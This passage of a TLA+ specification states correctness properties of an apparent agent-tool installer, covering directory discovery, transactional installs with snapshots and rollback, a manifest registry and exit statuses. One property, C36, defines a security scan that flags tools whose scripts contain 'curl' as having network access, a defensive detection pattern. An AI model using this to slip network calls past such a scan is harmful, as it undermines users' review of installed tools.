    /\ LinksOf(fs, cli.target) # <<>>

\* C23: a category that is a direct child of the root is mapped to that
\* direct child and to nothing else, whatever lies deeper and in whatever
\* order the walk lists the directories
C23_RootPriority ==
    (pc = "found") =>
       \A c \in CategorySet :
          <<c>> \in cli.dirs =>
             /\ Cardinality({i \in 1..Len(cli.components) : cli.components[i].key = c}) = 1
             /\ \A i \in 1..Len(cli.components) :
                   cli.components[i].key = c => cli.components[i].path = <<c>>

\* skills lies at the root and below pkg, pkg is listed before skills, and
\* the walk has run
C23_Witness ==
    /\ pc = "found"
    /\ {<<"skills">>, <<"pkg", "skills">>, <<"skills", "skills">>} \subseteq cli.dirs
    /\ cli.listing[1] = "pkg"
    /\ \E i \in 1..Len(cli.components) :
          cli.components[i] = [key |-> "skills", path |-> <<"skills">>]

\* C24: rollback_tool(T) without a snapshot argument restores T from the
\* most recent snapshot taken of T and returns True; when no snapshot of T
\* is left, or the snapshot named does not exist, it returns False and
\* changes nothing
C24_ManualRollback ==
    (pc = "done" /\ last = "rollback_tool") =>
       LET own == {k \in DOMAIN pre.snaps : k[1] = cli.target}
       IN  IF cli.snapshot_path # NoSnapshot
           THEN cli.snapshot_path \notin DOMAIN pre.snaps
                   => (cli.success = "False" /\ fs = pre)
           ELSE IF own = {}
                THEN cli.success = "False" /\ fs = pre
                ELSE /\ cli.success = "True"
                     /\ \E k \in own :
                           /\ \A j \in own : j[2] <= k[2]
                           /\ \A x \in pre.snaps[k].tool : fs.tools[cli.target] = x

\* C25: a logger built over a manifest.json that is not a registry document
\* completes every call without raising, and works on a registry document
C25_CorruptRegistryStartsFresh ==
    (pc \in {"logger", "done"} /\ last # "none" /\ pre.manifest_file.kind = "text") =>
       /\ raised = "none"
       /\ cli.manifest.type = "dict" /\ "installed_tools" \in cli.manifest.keys

\* C26: the install command ends with status 0 when the install succeeded,
\* and with a status other than 0 when the clone failed or the requested
\* validation failed
C26_ExitStatusTellsFailure ==
    (pc = "done" /\ cli.url # "") =>
       /\ (cli.success = "True" /\ raised = "none") => ExitStatus = 0
       /\ cli.success \in {"None", "False"} => ExitStatus # 0

\* the directory of tool name, <<>> when there is none
ToolDir(f, name) == IF name \in DOMAIN f.tools THEN <<f.tools[name]>> ELSE <<>>

\* C27: no step of a transaction on one tool, from its start to its exit,
\* changes the directory or a link of another tool, also when the name of
\* the one is part of the name of the other
C27_TransactionsAreIsolated ==
    [][(pc \in {"api", "exit"} \/ pc' = "api") =>
          \A U \in TwoNames \ {tx'.tool_name} :
             /\ ToolDir(fs', U) = ToolDir(fs, U)
             /\ LinksOf(fs', U) = LinksOf(fs, U)]_vars

\* C28: the transaction the command line opened bears the name of the tool
\* that install_tool resolved and works on
C28_TransactionNamesTheTarget ==
    (cli.in_tx /\ cli.url # "" /\ cli.target # "") => tx.tool_name = cli.target

\* C29: the rollback of a transaction that has a snapshot leaves the tool
\* directory equal to the copy in the snapshot: what the body added or
\* changed is gone, what it deleted is back
C29_RollbackRestoresVerbatim ==
    [][(/\ ~tx.rolled_back /\ tx'.rolled_back
        /\ tx.snapshot_dir # NoSnapshot /\ tx.snapshot_dir \in DOMAIN fs.snaps) =>
          /\ fs.snaps[tx.snapshot_dir].tool # {}
          /\ \A x \in fs.snaps[tx.snapshot_dir].tool :
                ToolDir(fs', tx.tool_name) = <<x>>]_vars

\* a transaction with a snapshot, whose body ended with a pull of some tree
\* into the tool, was rolled back on exit, and the tool directory is the
\* copy of the snapshot, which has no agents category
C29_Witness ==
    /\ pc = "done" /\ tx.rolled_back /\ last = "fetch"
    /\ tx.snapshot_dir \in DOMAIN fs.snaps
    /\ \A x \in fs.snaps[tx.snapshot_dir].tool :
          /\ "agents" \notin x.comps
          /\ ToolDir(fs, tx.tool_name) = <<x>>

\* C30: when a transaction that took a snapshot has ended rolled back, its
\* snapshot directory is gone
C30_RollbackConsumesSnapshot ==
    (pc = "done" /\ tx.rolled_back /\ tx.snapshot_dir # NoSnapshot) =>
       tx.snapshot_dir \notin DOMAIN fs.snaps

\* C31: after a kill inside a transaction that took a snapshot, the snapshot
\* is on disk, and the manual rollback of the tool puts the tool directory
\* and the links of the tool back as they were when the transaction started
C31_KillThenManualRollbackRestores ==
    /\ (pc = "killed" /\ tx.snapshot_dir # NoSnapshot) => tx.snapshot_dir \in DOMAIN fs.snaps
    /\ (pc = "done" /\ last = "rollback_tool" /\ tx.snapshot_dir # NoSnapshot) =>
          /\ cli.success = "True"
          /\ ToolDir(fs, tx.tool_name) = ToolDir(pre, tx.tool_name)
          /\ LinksOf(fs, tx.tool_name) = LinksOf(pre, tx.tool_name)

\* C35: when a metadata document that declares `tools` as a sequence lies
\* in a component directory of the tool that discovery found and that was
\* linked, at the root or below it, the validation of the install fails
C35_SequenceFailsWhereverItLies ==
    (pc = "decide" /\ cli.url # "" /\ ~cli.no_validate /\ cli.success # "None") =>
       \A d \in fs.tools[cli.target].docs :
          (/\ d.kind = "sequence"
           /\ \E k \in DOMAIN fs.links : fs.links[k] = [tool |-> cli.target, cat |-> d.cat])
          => cli.success = "False"

\* a directory that the walk can return: no directory above it is hidden or
\* skipped, and the directory that holds it is within the depth limit
Findable(p) ==
    /\ \A i \in 1..(Len(p) - 1) : ~Pruned(p[i])
    /\ rel_level(SubSeq(p, 1, Len(p) - 1)) <= 2

\* C32: a category that is not at the root is mapped to an occurrence such
\* that no other occurrence the walk can return lies at a lesser depth,
\* in whatever order the walk lists the directories
C32_ShallowerFirst ==
    (pc = "found") =>
       \A i \in 1..Len(cli.components) :
          LET e == cli.components[i]
          IN  <<e.key>> \notin cli.dirs =>
                 \A p \in cli.dirs :
                    (p[Len(p)] = e.key /\ Findable(p)) => Len(e.path) <= Len(p)

\* C33: no directory returned lies below a hidden or a skipped directory,
\* and none lies deeper than depth 2, a direct child of the root being at
\* depth 0
C33_BoundedAndFiltered ==
    (pc = "found") =>
       \A i \in 1..Len(cli.components) :
          LET p == cli.components[i].path
          IN  /\ \A j \in 1..(Len(p) - 1) : ~Pruned(p[j])
              /\ Len(p) - 1 <= 2

\* C36: a scan reports execute_on_startup exactly when the tool has a hooks
\* directory, and reports network_access when a .sh, .py or .js file of
\* the tool contains curl
C36_PermissionFootprint ==
    (pc = "done" /\ last = "scan_tool_security" /\ cli.target \in DOMAIN fs.tools) =>
       LET tool == fs.tools[cli.target]
       IN  /\ "execute_on_startup" \in cli.scanner.permissions <=> "hooks" \in tool.comps
           /\ (\E x \in tool.scripts :
                  /\ \E sfx \in {".sh", ".py", ".js"} : EndsWith(x.path, sfx)
                  /\ \E k \in 1..Len(x.lines) : Contains(x.lines[k], "curl"))
              => "network_access" \in cli.scanner.permissions

\* the number of times name occurs in the sequence items
Occurrences(items, name) == Cardinality({k \in 1..Len(items) : items[k] = name})

\* the visible files of a listed directory that have a recognized extension
RecognizedFiles(entries) ==
    {e \in entries : /\ e.kind = "file"
                     /\ ~StartsWith(e.name, ".")
                     /\ \E sfx \in {".md", ".json", ".py", ".js"} : EndsWith(e.name, sfx)}

\* C34: the listing is sorted by name; for commands it holds one item per
\* visible file, for every other category one item per visible subdirectory
\* and one item, named by the stem, per visible file with a recognized
\* extension; a hidden entry is never listed
C34_ItemListing ==
    (pc = "listed" /\ cli.path # <<>>) =>
       LET entries == cli.path[1]
           visible == {e \in entries : ~StartsWith(e.name, ".")}
           names   == {e.name : e \in entries} \cup {"lint", "notes", "data"}
       IN  /\ \A k \in 1..(Len(cli.items) - 1) : ~StrLess(cli.items[k + 1], cli.items[k])
           /\ \A n \in names :
                 Occurrences(cli.items, n) =
                    IF cli.c_type = "commands"
                    THEN Cardinality({e \in visible : e.kind = "file" /\ e.name = n})
                    ELSE Cardinality({e \in visible : e.kind = "dir" /\ e.name = n})
                         + Cardinality({e \in RecognizedFiles(entries) :
                                           \E sfx \in {".md", ".json", ".py", ".js"} :
                                              e.name = n \o sfx})
           /\ \A k \in 1..Len(cli.items) : cli.items[k] \in names /\ ~StartsWith(cli.items[k], ".")

\* C34 on the categories the listing has a branch for
C34_ItemListingBranched ==
    (cli.c_type \notin {"hooks", "prompts"}) => C34_ItemListing

\* the logger holds a registry document
HoldsRegistry == pc = "logger" /\ GetInstalledTools(cli.manifest) = "none"

\* C37: over a registry whose names are unique, the calls log_installation,
\* log_failure and mark_uninstalled on a logger keep at most one entry per
\* name, in the logger and in manifest.json; a call leaves every entry there
\* was in its place with its name and installed_at, and adds at most one
C37_RegistryNamesUnique ==
    /\ [](HoldsRegistry =>
            LET tools == cli.manifest.installed_tools
            IN  /\ \A i, j \in 1..Len(tools) : tools[i].name = tools[j].name => i = j
                /\ last \in {"log_installation", "log_failure", "mark_uninstalled"}
                   /\ cli.ret # "False"
                   => fs.manifest_file = [kind |-> "json", doc |-> cli.manifest])
    /\ [][(HoldsRegistry /\ HoldsRegistry' /\ ncalls' = ncalls + 1) =>
             LET old == cli.manifest.installed_tools
                 new == cli'.manifest.installed_tools
             IN  /\ Len(old) <= Len(new) /\ Len(new) <= Len(old) + 1
                 /\ \A i \in 1..Len(old) :
                       /\ new[i].name = old[i].name
                       /\ new[i].installed_at = old[i].installed_at]_vars

\* C37 witness: an entry that was there was logged again, beside another
C37_Relogged ==
    /\ HoldsRegistry
    /\ last \in {"log_installation", "log_failure"}
    /\ Len(cli.manifest.installed_tools) = 2
    /\ \E i \in 1..2 :
          /\ cli.manifest.installed_tools[i].installed_at = 0
          /\ cli.manifest.installed_tools[i].last_updated = ncalls
          /\ ncalls > 0

\* C38: when two processes have each recorded the installation of their own
\* tool, manifest.json holds an entry for both tools, whatever the order in
\* which they read and wrote it
C38_NoLostEntry ==
    (\A w \in Writers : cli[w].pc = "done" /\ cli[w].raised = "none") =>
       /\ fs.manifest_file.kind = "json"
       /\ \A w \in Writers :
             EntryIndex(fs.manifest_file.doc.installed_tools, ToolOfWriter(w)) # 0

\* C39: a transaction is never both committed and rolled back; the status of
\* its record is in_progress, committed or rolled_back as neither flag, the
\* flag committed or the flag rolled_back is set; and no step of the body or
\* of the exit changes a status that is committed or rolled_back
C39_TransactionStateInvariant ==
    /\ [](/\ ~(tx.committed /\ tx.rolled_back)
          /\ tx.log.status \in {"in_progress", "committed", "rolled_back"}
          /\ tx.log.status = "in_progress" <=> (~tx.committed /\ ~tx.rolled_back)
          /\ tx.log.status = "committed" <=> tx.committed
          /\ tx.log.status = "rolled_back" <=> tx.rolled_back)
    /\ [][(pc \in {"api", "exit"} /\ tx.log.status # "in_progress") =>
             /\ tx'.log.status = tx.log.status
             /\ tx'.committed = tx.committed
             /\ tx'.rolled_back = tx.rolled_back]_vars

\* C39 witness: rollback() was called on a committed transaction, and the
\* exit then ran with the ordering error in flight
C39_RollbackAfterCommit ==
    /\ pc = "done" /\ cli.in_tx
    /\ last = "rollback"
    /\ tx.committed /\ tx.log.status = "committed"
    /\ raised = "OrderingError"

\* C40: when the body raises after commit() has succeeded, the exit leaves
\* the transaction committed, removes its snapshot, and hands the caller the
\* fault the body raised
C40_FaultAfterCommitKeepsCommit ==
    [][(pc = "exit" /\ exc = "Fault" /\ tx.committed) =>
          /\ tx' = tx
          /\ tx.snapshot_dir # NoSnapshot => tx.snapshot_dir \notin DOMAIN fs'.snaps
          /\ raised' = "Fault"]_vars

====
